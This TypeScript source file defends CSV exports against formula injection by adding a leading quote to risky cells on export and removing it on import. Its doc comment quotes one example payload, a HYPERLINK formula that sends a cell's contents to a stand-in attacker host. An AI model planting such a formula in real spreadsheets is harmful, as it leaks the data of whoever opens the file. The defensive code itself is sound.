/**
 * CSV cells a spreadsheet would run as a formula. Excel, WPS and LibreOffice treat a cell that
 * starts with `=`, `+`, `-` or `@` (and, after some clean-ups, a tab or carriage return) as a
 * formula: a pack author's `=HYPERLINK("https://evil.example/?"&A1,"Refund")` title would run on a
 * manager's machine. Export defuses such cells with a leading `'` (OWASP's advice), and import
 * undoes exactly that, so a round trip gives back every text unchanged.
 *
 * The rule, both ways: a cell whose text starts with a formula character *or with `'`* gets one
 * more `'` in front; on import, a cell that starts with `'` followed by one of those characters
 * loses its first `'`. (Escaping a leading `'` too is what keeps `'=x` and `=x` apart.)
 */

/** Characters that make a spreadsheet cell a formula (or hide one), plus the escape itself. */
const DEFUSED_START = /^[=+\-@\t\r']/;

/** A cell's text as exported: formulas made inert with a leading `'`. */
export function defuseCell(text: string): string {
  return DEFUSED_START.test(text) ? `'${text}` : text;
}

/** A cell's text as imported: the `'` that {@link defuseCell} added, taken away again. */
export function restoreCell(text: string): string {
  return text.startsWith("'") && DEFUSED_START.test(text.slice(1)) ? text.slice(1) : text;
}
